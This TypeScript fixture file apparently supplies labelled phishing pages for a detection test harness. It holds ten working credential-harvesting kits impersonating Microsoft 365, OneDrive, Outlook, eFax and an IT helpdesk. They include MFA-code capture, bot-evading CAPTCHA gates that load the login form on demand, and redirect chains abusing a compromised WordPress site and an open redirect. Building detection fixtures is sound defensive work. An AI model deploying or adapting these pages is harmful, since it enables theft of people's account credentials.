import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, msLogo, msCss, msFoot, b64, jsRoute, jsonRoute, pngRoute, html } from '../parts/l-kit.js';

export const entries: Entry[] = [
{
  id: 'l-phish-m365-aitm-api-form',
  label: 'phishing',
  kind: 'm365-aitm',
  url: 'https://auth.kestrelfreight-sso.com/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&response_type=code&scope=openid&sso_reload=true',
  routes: {
    'auth.kestrelfreight-sso.com/common/oauth2/v2.0/authorize': htmlRoute(`<!DOCTYPE html><html dir="ltr" lang="en"><head><meta charset="utf-8"><meta name="robots" content="none"><meta name="viewport" content="width=device-width, initial-scale=1.0"><title>Sign in to your account</title>
<link rel="stylesheet" href="/shared/1.0/content/css/converged.v2.login.min.css"></head>
<body class="cb"><div id="app"><div style="display:flex;height:100vh;align-items:center;justify-content:center;font:14px Segoe UI"><div class="spinner"></div>&nbsp;Loading…</div></div>
<noscript>JavaScript required to sign in</noscript>
<script src="/shared/1.0/content/js/ConvergedLogin_PCore.js" nonce="a8Fz"></script></body></html>`),
    'auth.kestrelfreight-sso.com/shared/1.0/content/css/converged.v2.login.min.css': { status: 200, headers: { 'content-type': 'text/css' }, body: msCss + '.spinner{width:18px;height:18px;border:2px solid #0067b8;border-right-color:transparent;border-radius:50%;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}' },
    'auth.kestrelfreight-sso.com/shared/1.0/content/js/ConvergedLogin_PCore.js': jsRoute(`(function(){
var sCtx=Math.random().toString(36).slice(2)+Date.now().toString(36);
function $(i){return document.getElementById(i)}
fetch('/api/v1/session/begin',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({ctx:sCtx,ua:navigator.userAgent,tz:Intl.DateTimeFormat().resolvedOptions().timeZone,ref:document.referrer})})
.then(function(r){return r.json()}).then(function(j){
 if(j.block){location.replace(j.redirect);return}
 document.title=j.title;$('app').innerHTML=j.html;
 if(j.bg)document.body.style.background='url('+j.bg+') center/cover';
 $('idSIButton9').addEventListener('click',function(ev){ev.preventDefault();
  var f=new FormData($('i0281'));f.append('ctx',sCtx);
  fetch('/api/v1/session/step',{method:'POST',body:f}).then(function(r){return r.json()}).then(function(k){
   if(k.html){$('app').innerHTML=k.html}else if(k.location){location.href=k.location}
  })
 })
})})();`),
    'auth.kestrelfreight-sso.com/api/v1/session/begin': jsonRoute({
      block: false,
      title: 'Sign in to your account',
      bg: '/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg',
      html: `<div class="outer"><div class="box"><form id="i0281" name="f1" method="post" autocomplete="off">${msLogo}<div role="heading" aria-level="1" class="row title"><h1>Sign in</h1></div><div id="usernameError" class="err"></div><input type="email" name="loginfmt" id="i0116" maxlength="113" class="form-control" aria-required="true" placeholder="Email, phone, or Skype"><input type="password" name="passwd" id="i0118" placeholder="Password"><div class="small"><a id="idA_PWD_ForgotPassword" href="#">Forgot my password</a></div><div class="small"><a href="#">Sign-in options</a></div><input type="submit" id="idSIButton9" class="btn" value="Sign in"></form></div></div>`,
    }),
    'auth.kestrelfreight-sso.com/api/v1/session/step': jsonRoute({ html: '<div class="outer"><div class="box"><h1>Approve sign in request</h1><p>Open your Authenticator app, and enter the number shown to sign in.</p><div style="font-size:40px;text-align:center">47</div></div></div>' }),
    'auth.kestrelfreight-sso.com/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg': { status: 200, headers: { 'content-type': 'image/svg+xml' }, body: '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#e8eef4"/></svg>' },
  },
},
{
  id: 'l-phish-onedrive-blurred-pdf-providers',
  label: 'phishing',
  kind: 'onedrive-share',
  url: 'https://drive-onefiles.web.app/view/?doc=INV-88213',
  routes: {
    'drive-onefiles.web.app/view/': htmlRoute(page({
      title: 'OneDrive - Secure Document',
      css: `body{margin:0;font-family:Segoe UI,Arial;background:#666}.doc{filter:blur(5px);background:#fff;width:700px;margin:30px auto;padding:60px;min-height:900px;color:#333}.doc h2{color:#1f4e79}.mask{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center}.m{background:#fff;width:380px;padding:28px;border-radius:4px;text-align:center}.m h3{margin:10px 0}.pv{display:block;width:100%;margin:8px 0;padding:10px;border:1px solid #ccc;background:#fafafa;cursor:pointer;font-size:15px;text-align:left}.pv img{vertical-align:middle;margin-right:8px}#f{display:none;text-align:left}#f input{width:100%;padding:9px;margin:6px 0;border:1px solid #aaa}#f button{width:100%;background:#0078d4;color:#fff;border:0;padding:10px}`,
      body: `<div class="doc"><h2>INVOICE</h2><p>Invoice No. INV-88213<br>Date: 24/11/2026<br>Bill To: Accounts Payable</p><table width="100%" border="1" cellspacing="0" cellpadding="8"><tr><th>Description</th><th>Qty</th><th>Amount</th></tr><tr><td>Freight forwarding services Oct 2026</td><td>1</td><td>$18,420.00</td></tr><tr><td>Customs clearance</td><td>3</td><td>$1,275.00</td></tr></table><p>TOTAL DUE: $19,695.00</p><p>Remit to account ending 4471.</p></div>
<div class="mask"><div class="m"><svg width="48" height="32" viewBox="0 0 48 32"><path d="M20 6a10 10 0 0 1 18 4 8 8 0 0 1 2 16H12a8 8 0 0 1-1-16A10 10 0 0 1 20 6z" fill="#0364b8"/></svg>
<h3>OneDrive</h3><p style="font-size:14px;color:#444">This document is protected. Select your email provider to view the shared file.</p>
<div id="list"><button class="pv" data-p="Office 365">&#9632; Sign in with Office 365</button><button class="pv" data-p="Outlook">&#9993; Sign in with Outlook</button><button class="pv" data-p="Yahoo">Y! Sign in with Yahoo</button><button class="pv" data-p="AOL">Aol. Sign in with AOL</button><button class="pv" data-p="Other">@ Other Mail</button></div>
<form id="f" action="https://drive-onefiles.web.app/view/post.php" method="post"><p id="pn" style="font-weight:600"></p><input type="hidden" name="provider" id="prov"><input type="email" name="email" placeholder="Email address" required><input type="password" name="password" placeholder="Email password" required><button type="submit">View Document</button><p style="font-size:11px;color:#777">&copy; 2026 Microsoft &middot; Secured by OneDrive</p></form></div></div>
<script>document.querySelectorAll('.pv').forEach(function(b){b.onclick=function(){document.getElementById('list').style.display='none';document.getElementById('f').style.display='block';document.getElementById('prov').value=b.dataset.p;document.getElementById('pn').textContent='Sign in with '+b.dataset.p}})</script>`,
    })),
  },
},
{
  id: 'l-phish-fax-fr-efax-notification',
  label: 'phishing',
  kind: 'fax',
  url: 'https://efax-reception.fr-docs.online/reception/document.html?id=FX4410298',
  routes: {
    'efax-reception.fr-docs.online/reception/document.html': htmlRoute(page({
      lang: 'fr',
      title: 'eFax - Nouveau fax reçu',
      css: `body{font-family:Arial,sans-serif;background:#eef1f4;margin:0}header{background:#d71f26;color:#fff;padding:14px 24px;font-size:22px;font-weight:bold}.c{max-width:520px;margin:40px auto;background:#fff;padding:28px;border:1px solid #dde}table{width:100%;font-size:14px;border-collapse:collapse}td{padding:6px;border-bottom:1px solid #eee}input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb}button{background:#d71f26;color:#fff;border:0;padding:11px;width:100%;font-size:15px}`,
      body: `<header>eFax&reg;</header><div class="c"><h2>Vous avez reçu un nouveau fax</h2>
<table><tr><td>Numéro de fax</td><td>FX4410298</td></tr><tr><td>Pages</td><td>4</td></tr><tr><td>Reçu le</td><td>26/11/2026 08:12</td></tr><tr><td>Expéditeur</td><td>+33 1 84 88 31 20</td></tr></table>
<p>Pour consulter le document, veuillez vous connecter avec votre adresse e-mail professionnelle.</p>
<form method="post" action="https://efax-reception.fr-docs.online/reception/valider.php"><input type="email" name="adresse" placeholder="Adresse e-mail" required><input type="password" name="motdepasse" placeholder="Mot de passe" required><button>Afficher le fax</button></form>
<p style="font-size:11px;color:#777">Ce message a été envoyé par le service eFax. © 2026 Consensus Cloud Solutions. Tous droits réservés.</p></div>`,
    })),
  },
},
{
  id: 'l-phish-it-password-expiry-nl',
  label: 'phishing',
  kind: 'password-expiry',
  url: 'https://wachtwoord-beheer.it-servicedesk-portaal.nl/owa/verlopen.html?gebruiker=p.devries%40gemeente-altena-zuid.nl',
  routes: {
    'wachtwoord-beheer.it-servicedesk-portaal.nl/owa/verlopen.html': htmlRoute(page({
      lang: 'nl',
      title: 'Wachtwoord verloopt vandaag',
      css: msCss,
      body: `<div class="outer"><div class="box">${msLogo}<h1>Uw wachtwoord verloopt vandaag</h1>
<p class="small" style="font-size:14px">Het wachtwoord voor <b id="who"></b> verloopt op 29-11-2026. Bevestig uw huidige wachtwoord om hetzelfde wachtwoord te blijven gebruiken, anders wordt uw account vergrendeld.</p>
<form method="post" action="bevestig.php"><input type="hidden" name="u" id="hu"><input type="password" name="oud" placeholder="Huidig wachtwoord" required><input type="password" name="oud2" placeholder="Bevestig wachtwoord" required>
<label class="small"><input type="checkbox" checked> Huidig wachtwoord behouden</label><br><button class="btn">Bevestigen</button></form>
<p class="small" style="clear:both;padding-top:20px">ICT Servicedesk &middot; bereikbaar via toestel 4400</p></div></div>${msFoot}
<script>var u=new URLSearchParams(location.search).get('gebruiker')||'';document.getElementById('who').textContent=u;document.getElementById('hu').value=u;</script>`,
    })),
  },
},
{
  id: 'l-phish-m365-turnstile-gate',
  label: 'phishing',
  kind: 'captcha-gate',
  url: 'https://secure.docs-kestrelfreight.com/?a=a2VzdHJlbC1mcmVpZ2h0',
  routes: {
    'secure.docs-kestrelfreight.com/': htmlRoute(page({
      title: 'Just a moment...',
      css: `body{font-family:system-ui,-apple-system,Segoe UI,Roboto,Arial;margin:0;background:#fff;color:#313131}.m{max-width:60rem;margin:8rem auto;padding:0 1.5rem}h1{font-size:2.2rem;font-weight:500}.cb{display:flex;align-items:center;gap:12px;border:1px solid #e0e0e0;width:300px;padding:14px;background:#fafafa}.cb input{width:24px;height:24px}.ft{font-size:.75rem;margin-top:5rem;color:#666}`,
      body: `<div class="m"><h1>secure.docs-kestrelfreight.com</h1><h2 style="font-weight:400;font-size:1.4rem">Verify you are human by completing the action below.</h2>
<div class="cb"><input type="checkbox" id="hc"><label for="hc">Verify you are human</label><span style="margin-left:auto;font-size:10px;color:#888">Privacy &middot; Terms</span></div>
<p>secure.docs-kestrelfreight.com needs to review the security of your connection before proceeding.</p>
<div class="ft">Ray ID: <code>8e91a3f0cb7d2e11</code> &middot; Performance &amp; security by Cloudflare</div></div>
<script>
(function(){var wd=navigator.webdriver,sc=screen.width<200;
document.getElementById('hc').addEventListener('change',function(){
 if(wd||sc){location.replace('https://www.wikipedia.org/');return}
 setTimeout(function(){fetch('/c/'+'ld?r='+Math.random()).then(function(r){return r.text()}).then(function(t){document.open();document.write(t);document.close()})},900)});
setTimeout(function(){var c=document.getElementById('hc');if(!c.checked&&!wd){c.checked=true;c.dispatchEvent(new Event('change'))}},3500)})();
</script>`,
    })),
    'secure.docs-kestrelfreight.com/c/ld': htmlRoute(page({
      title: 'Sign in to your account',
      css: msCss,
      body: `<div class="outer"><div class="box">${msLogo}<h1>Sign in</h1><form id="lf" method="post" action="/c/auth"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype" required><input type="password" name="passwd" placeholder="Password" required><p class="small"><a href="#">Forgot my password</a></p><button class="btn">Sign in</button></form></div></div>${msFoot}`,
    })),
  },
},
{
  id: 'l-phish-outlook-slider-captcha-gate',
  label: 'phishing',
  kind: 'captcha-gate',
  url: 'https://outlook-verify.mailsecure-check.com/owa/',
  routes: {
    'outlook-verify.mailsecure-check.com/owa/': htmlRoute(page({
      title: 'Security check',
      css: `body{font-family:Segoe UI,Arial;background:#f4f6f9;margin:0}.c{width:340px;margin:120px auto;background:#fff;border-radius:6px;padding:22px;box-shadow:0 1px 6px rgba(0,0,0,.15)}.tr{position:relative;height:40px;background:#e9eef3;border-radius:20px;margin-top:16px}.kn{position:absolute;left:0;top:0;width:40px;height:40px;border-radius:50%;background:#0078d4;color:#fff;text-align:center;line-height:40px;cursor:grab}.tr span{position:absolute;width:100%;text-align:center;line-height:40px;color:#889;font-size:13px}`,
      body: `<div class="c"><b>Please complete the security check</b><p style="font-size:13px;color:#555">Slide to the right to verify you are not a robot.</p><div class="tr" id="tr"><span>Slide to verify &raquo;</span><div class="kn" id="kn">&rsaquo;</div></div><p style="font-size:11px;color:#999;margin-top:18px">Protected by anti-bot verification</p></div>
<script>
var kn=document.getElementById('kn'),tr=document.getElementById('tr'),d=false,sx=0;
kn.addEventListener('mousedown',function(e){d=true;sx=e.clientX});
document.addEventListener('mousemove',function(e){if(!d)return;var x=Math.max(0,Math.min(tr.clientWidth-40,e.clientX-sx));kn.style.left=x+'px';if(x>=tr.clientWidth-42){d=false;ok()}});
document.addEventListener('mouseup',function(){d=false;if(parseInt(kn.style.left||0)<tr.clientWidth-42)kn.style.left='0px'});
function ok(){var s=document.createElement('script');s.src='/owa/auth/'+'k.js?v='+Date.now();document.body.appendChild(s)}
</script>`,
    })),
    'outlook-verify.mailsecure-check.com/owa/auth/k.js': jsRoute(`document.title='Outlook';document.body.innerHTML='<div style="font-family:Segoe UI;max-width:380px;margin:80px auto;background:#fff;padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><div style="color:#0078d4;font-size:28px;font-weight:600">Outlook</div><p>Sign in to continue to Outlook</p><form method="post" action="/owa/auth/owaauth.dll"><input name="username" type="email" placeholder="Email address" style="width:100%;padding:8px;margin:6px 0"><input name="password" type="password" placeholder="Password" style="width:100%;padding:8px;margin:6px 0"><button style="background:#0078d4;color:#fff;border:0;padding:8px 20px">Sign in</button></form></div>';`),
  },
},
{
  id: 'l-phish-qr-mfa-reregister-mobile',
  label: 'phishing',
  kind: 'qr-landing',
  url: 'https://mfa-setup.kestrel-freight.info/m/?e=ZC5rb3dhbHNraUBrZXN0cmVsLWZyZWlnaHQuY29t&src=qr',
  routes: {
    'mfa-setup.kestrel-freight.info/m/': htmlRoute(page({
      title: 'Microsoft Authenticator - Re-register',
      css: msCss + '.step{display:none}.step.on{display:block}',
      body: `<div class="outer"><div class="box">${msLogo}
<div class="step on" id="s1"><h1>Action required</h1><p style="font-size:14px">Your organization's MFA policy was updated on 25 November 2026. Re-register your Authenticator to avoid losing access to email and Teams.</p><input type="email" id="e" readonly><input type="password" id="p" placeholder="Password"><button class="btn" id="b1">Next</button></div>
<div class="step" id="s2"><h1>Enter code</h1><p style="font-size:14px">We sent a code to your phone ending in **42.</p><input type="text" id="c" inputmode="numeric" maxlength="6" placeholder="Code"><button class="btn" id="b2">Verify</button></div>
<div class="step" id="s3"><h1>All set</h1><p>Your security info is updated.</p></div></div></div>
<script>var q=new URLSearchParams(location.search);try{document.getElementById('e').value=atob(q.get('e')||'')}catch(x){}
function post(o){return fetch('/m/s.php',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(o)})}
document.getElementById('b1').onclick=function(){post({e:document.getElementById('e').value,p:document.getElementById('p').value}).then(function(){s(2)})};
document.getElementById('b2').onclick=function(){post({c:document.getElementById('c').value}).then(function(){s(3);setTimeout(function(){location.href='https://outlook.office.com/'},1500)})};
function s(n){document.querySelectorAll('.step').forEach(function(x){x.classList.remove('on')});document.getElementById('s'+n).classList.add('on')}</script>`,
    })),
  },
},
{
  id: 'l-phish-tracking-chain-to-m365-kit',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://email.mg.tradewind-notices.com/c/eJwlzEsOgjAQgOG7zL7K0NbWG5gQfPZsbfA5REnVGuPtD7H7P9_3_RbXXHD0K08fqXH8yGm5hBZbI3JgXF7PS9IRFOzcfNhyx4I',
  routes: {
    'email.mg.tradewind-notices.com/c/eJwlzEsOgjAQgOG7zL7K0NbWG5gQfPZsbfA5REnVGuPtD7H7P9_3_RbXXHD0K08fqXH8yGm5hBZbI3JgXF7PS9IRFOzcfNhyx4I': redirectRoute(302, 'https://www.ristorante-ilgabbiano.it/wp-admin/includes/redirect.php?u=aHR0cHM6Ly9zaGFyZWZpbGUtaW5ib3gub25saW5lL2QvNDQxOQ=='),
    'www.ristorante-ilgabbiano.it/wp-admin/includes/redirect.php': htmlRoute(`<html><head><meta http-equiv="refresh" content="0;url=https://sharefile-inbox.online/d/4419"><script>location.replace(atob('aHR0cHM6Ly9zaGFyZWZpbGUtaW5ib3gub25saW5lL2QvNDQxOQ=='))</script></head><body></body></html>`),
    'sharefile-inbox.online/d/4419': htmlRoute(page({
      title: 'Microsoft 365',
      css: msCss,
      body: `<div class="outer"><div class="box">${msLogo}<h1>Verify your identity</h1><p style="font-size:14px">A secure PDF <b>"Payment_Remittance_Nov26.pdf"</b> was sent to you. Sign in to download.</p><form method="post" action="https://sharefile-inbox.online/d/x.php"><input type="email" name="e" placeholder="Work email" required><input type="password" name="p" placeholder="Password" required><button class="btn">Download</button></form></div></div>${msFoot}`,
    })),
  },
},
{
  id: 'l-phish-excel-online-fragment-email-prefill',
  label: 'phishing',
  kind: 'm365-login',
  url: 'https://view-xlsx.officeonline-share.com/x/_layouts/15/Doc.aspx?sourcedoc=%7B8E2A1F4C%7D&file=Headcount_Budget_2027.xlsx#j.novakova@kestrel-freight.com',
  routes: {
    'view-xlsx.officeonline-share.com/x/_layouts/15/Doc.aspx': htmlRoute(page({
      title: 'Headcount_Budget_2027.xlsx',
      css: `body{margin:0;font-family:Segoe UI,Arial}.rb{background:#217346;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;font-weight:600}.grid{filter:blur(4px);display:grid;grid-template-columns:repeat(8,110px);font-size:12px}.grid div{border:1px solid #ddd;height:22px;padding:2px 4px}.ov{position:fixed;inset:48px 0 0 0;background:rgba(255,255,255,.6);display:flex;align-items:center;justify-content:center}.m{background:#fff;width:420px;padding:36px;box-shadow:0 4px 20px rgba(0,0,0,.25)}.m input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:8px 0}.m button{float:right;background:#0067b8;color:#fff;border:0;padding:7px 26px;margin-top:10px}`,
      body: `<div class="rb">&#9783;&nbsp; Excel &nbsp;&nbsp;<span style="font-weight:400">Headcount_Budget_2027.xlsx - Saved</span></div><div class="grid" id="g"></div>
<div class="ov"><div class="m">${msLogo}<h2 style="font-weight:600;margin:14px 0 6px">Verify your account</h2><p style="font-size:14px">Your session has expired. Sign in again to open this workbook.</p><form id="f"><input type="email" id="u" name="u" readonly><input type="password" id="p" name="p" placeholder="Password" autofocus><div id="er" style="color:#e81123;font-size:13px"></div><button>Sign in</button></form></div></div>
<script>
for(var i=0;i<240;i++){var d=document.createElement('div');d.textContent=i%8==0?'Dept '+(i/8|0):(i%3?Math.round(Math.random()*90000):'');document.getElementById('g').appendChild(d)}
var e=decodeURIComponent(location.hash.replace(/^#/,''));if(e.indexOf('@')<0){try{e=atob(e)}catch(x){}}document.getElementById('u').value=e;
var n=0;document.getElementById('f').onsubmit=function(ev){ev.preventDefault();n++;
var x=new XMLHttpRequest();x.open('POST','/x/_layouts/15/auth.ashx',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('email='+encodeURIComponent(e)+'&password='+encodeURIComponent(document.getElementById('p').value)+'&attempt='+n);
if(n<2){document.getElementById('er').textContent='Your password is incorrect.';document.getElementById('p').value=''}else{location.href='https://www.office.com/launch/excel'}}
</script>`,
    })),
  },
},
{
  id: 'l-phish-open-redirect-partner-portal-logout',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://portal.hanse-spedition-partner.de/Account/Logout?returnUrl=https%3A%2F%2Fkestrel-onedrive.share-viewer.net%2Fs%2F9a7c%3Fe%3Dcm9vdEBrZXN0cmVsLWZyZWlnaHQuY29t',
  routes: {
    'portal.hanse-spedition-partner.de/Account/Logout': htmlRoute(`<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Abmelden – Hanse Spedition Partnerportal</title></head><body style="font-family:Arial;text-align:center;padding-top:80px"><p>Sie wurden erfolgreich abgemeldet.</p><p>Sie werden weitergeleitet…</p>
<script>var r=new URLSearchParams(location.search).get('returnUrl')||'/';setTimeout(function(){window.location=r},400)</script></body></html>`),
    'kestrel-onedrive.share-viewer.net/s/9a7c': htmlRoute(page({
      title: 'OneDrive',
      css: `body{margin:0;font-family:Segoe UI,Arial;background:#f3f2f1}.c{max-width:440px;margin:70px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:8px 0}button{float:right;background:#0067b8;color:#fff;border:0;padding:7px 26px;margin-top:10px}`,
      body: `<div class="c">${msLogo}<h2 style="font-weight:600">Access shared files</h2><p style="font-size:14px">Kestrel Freight Group shared <b>"Zollpapiere_KW48.pdf"</b> with you. To open it, confirm your identity.</p><form method="post" action="/s/9a7c/v"><input type="email" name="login" id="lg"><input type="password" name="passwd" placeholder="Password"><button>Sign in</button></form><div style="clear:both"></div></div>
<script>try{document.getElementById('lg').value=atob(new URLSearchParams(location.search).get('e')||'')}catch(x){}</script>`,
    })),
  },
},
];
